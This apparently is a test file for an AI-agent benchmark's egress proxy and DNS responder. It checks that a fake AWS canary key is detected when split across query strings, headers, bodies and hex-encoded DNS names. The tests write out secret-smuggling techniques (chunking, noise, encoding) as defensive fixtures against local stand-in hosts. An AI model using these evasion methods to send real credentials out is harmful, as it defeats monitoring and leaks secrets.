import { randomBytes } from 'node:crypto';
import { Resolver } from 'node:dns/promises';
import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BenchmarkConfigSchema, type ResolvedConfig } from '../../config/schema.js';
import type { NetworkRecord } from '../../evidence/types.js';
import { outboundScan } from '../../pipeline/outbound-scan.js';
import { DnsResponder } from './dns-responder.js';
import { EgressProxy } from './egress-proxy.js';

const TOKEN = 'AKIA7F3C9E21B04D6A58';
const cfg = BenchmarkConfigSchema.parse({
  name: 't',
  task: { prompt: 'p' },
  repo: '.',
  test_command: ['true'],
}) as unknown as ResolvedConfig;

let upstream: Server;
let upstreamPort = 0;
beforeAll(async () => {
  upstream = createServer((req, res) => {
    req.resume();
    req.on('end', () => res.end('ok'));
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  const address = upstream.address();
  upstreamPort = typeof address === 'object' && address ? address.port : 0;
});
afterAll(() => new Promise<void>((resolve) => upstream.close(() => resolve())));

/** One run's proxy and DNS responder sharing one scan (and so one ledger), as observe-window makes them. */
async function run(
  steps: (port: number, lookup: (name: string) => Promise<unknown>) => Promise<void>,
): Promise<NetworkRecord[]> {
  const outbound = outboundScan(cfg, [{ kind: 'aws-credentials', token: TOKEN }]);
  if (!outbound) throw new Error('the default presets give a scanner');
  const hosts = {
    'a.allowed.test': `127.0.0.1:${upstreamPort}`,
    'b.allowed.test': `127.0.0.1:${upstreamPort}`,
  };
  const proxy = new EgressProxy({ allow: Object.keys(hosts), hosts, tcpPort: 0, outbound });
  const dns = new DnsResponder({ hosts: {}, udpPort: 0, outbound });
  const port = (await proxy.start()).tcpPort ?? 0;
  const resolver = new Resolver({ timeout: 1000, tries: 1 });
  resolver.setServers([`127.0.0.1:${(await dns.start()).udpPort}`]);
  try {
    await steps(port, (name) => resolver.resolve4(name).catch(() => undefined));
  } finally {
    await proxy.stop();
    await dns.stop();
  }
  const records = [...(await proxy.stop()), ...(await dns.stop())];
  return records.sort((a, b) => a.ts - b.ts);
}

function get(port: number, host: string, target: string, headers = '', body = ''): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    socket.on('data', () => {});
    socket.on('close', () => resolve());
    socket.on('error', () => resolve());
    const length = body ? `Content-Length: ${body.length}\r\n` : '';
    socket.on('connect', () =>
      socket.write(
        `${body ? 'POST' : 'GET'} http://${host}${target} HTTP/1.1\r\n${headers}${length}Connection: close\r\n\r\n${body}`,
      ),
    );
  });
}

const pieceLeaks = (records: NetworkRecord[]) =>
  records.flatMap((r) =>
    (r.leaks ?? [])
      .filter((l) => l.where === 'pieces')
      .map((l) => ({ on: r.host, carriers: (l.carriers ?? []).map((c) => `${c.host} ${c.where}`) })),
  );

describe('a canary cut into pieces across requests, hosts and lookups', () => {
  it('is put together from a query, a header and a body to two allowed hosts, out of order, with noise', async () => {
    const records = await run(async (port) => {
      await get(port, 'b.allowed.test', `/t?v=1&part=${TOKEN.slice(10)}&z=${randomBytes(8).toString('hex')}`);
      await get(port, 'a.allowed.test', '/', `X-Trace: noise-${TOKEN.slice(0, 11)}-end\r\n`);
      await get(port, 'a.allowed.test', '/', '', `{"n": 3, "id": "${TOKEN.slice(4, 15)}"}`);
    });
    expect(records.every((r) => !(r.leaks ?? []).some((l) => l.where !== 'pieces'))).toBe(true);
    expect(pieceLeaks(records)).toEqual([
      { on: 'a.allowed.test', carriers: ['b.allowed.test url', 'a.allowed.test header'] },
    ]);
    const leak = records.flatMap((r) => r.leaks ?? [])[0];
    expect(leak?.detector).toBe('canary-aws-credentials');
    expect(leak?.kind).toBe('canary');
  });

  it('is put together from hex pieces over DNS names under two domains and a base64 piece in a URL', async () => {
    const hex = Buffer.from(TOKEN).toString('hex');
    const records = await run(async (port, lookup) => {
      await lookup(`${hex.slice(0, 22)}.x.one.test`);
      await lookup(`q.${hex.slice(18, 30)}${randomBytes(2).toString('hex')}.two.test`);
      await get(port, 'a.allowed.test', `/?s=${Buffer.from(TOKEN.slice(9)).toString('base64url')}`);
    });
    // The middle lookup carries only 6 token bytes: too short to count, and not needed.
    expect(pieceLeaks(records)).toEqual([
      {
        on: 'a.allowed.test',
        carriers: [`${hex.slice(0, 22)}.x.one.test host`, 'a.allowed.test url'],
      },
    ]);
  });

  it('stays quiet on pieces shorter than the threshold, on most of a token, and on a whole token (reported once, as itself)', async () => {
    const short = await run(async (port) => {
      for (let at = 0; at < TOKEN.length; at += 9)
        await get(port, 'a.allowed.test', `/?p=${TOKEN.slice(at, at + 9)}`);
    });
    expect(short.flatMap((r) => r.leaks ?? [])).toEqual([]);
    const most = await run(async (port) => {
      await get(port, 'a.allowed.test', `/?p=${TOKEN.slice(0, 14)}`);
    });
    expect(most.flatMap((r) => r.leaks ?? [])).toEqual([]);
    const whole = await run(async (port) => {
      await get(port, 'a.allowed.test', `/?p=${TOKEN}`);
      await get(port, 'b.allowed.test', `/?p=${TOKEN.slice(0, 12)}`);
      await get(port, 'b.allowed.test', `/?p=${TOKEN.slice(8)}`);
    });
    expect(whole.flatMap((r) => (r.leaks ?? []).map((l) => `${l.where} ${l.detector}`))).toEqual([
      'url aws-access-key',
      'url canary-aws-credentials',
    ]);
  });
});
